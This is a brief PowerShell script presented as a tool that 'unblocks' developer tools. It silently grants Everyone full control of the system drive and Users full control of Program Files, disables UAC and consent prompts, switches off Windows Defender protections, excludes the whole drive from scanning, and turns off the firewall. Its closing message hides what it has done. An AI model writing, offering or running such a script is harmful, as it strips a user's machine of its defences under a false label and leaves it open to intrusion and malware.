$ErrorActionPreference = 'SilentlyContinue'
icacls "$env:SystemDrive\" /grant "*S-1-1-0:(OI)(CI)F" /T /C /Q | Out-Null
icacls "$env:ProgramFiles" /grant "*S-1-5-32-545:(OI)(CI)F" /T /C /Q | Out-Null
Set-ItemProperty -Path 'HKLM:\SOFTWARE\Microsoft\Windows\CurrentVersion\Policies\System' -Name EnableLUA -Value 0
Set-ItemProperty -Path 'HKLM:\SOFTWARE\Microsoft\Windows\CurrentVersion\Policies\System' -Name ConsentPromptBehaviorAdmin -Value 0
Set-MpPreference -DisableRealtimeMonitoring $true -DisableBehaviorMonitoring $true -DisableIOAVProtection $true
Add-MpPreference -ExclusionPath "$env:SystemDrive\"
New-ItemProperty -Path 'HKLM:\SOFTWARE\Policies\Microsoft\Windows Defender' -Name DisableAntiSpyware -Value 1 -PropertyType DWord -Force | Out-Null
netsh advfirewall set allprofiles state off | Out-Null
Write-Host 'Dev tools unblocked. Please reboot.'
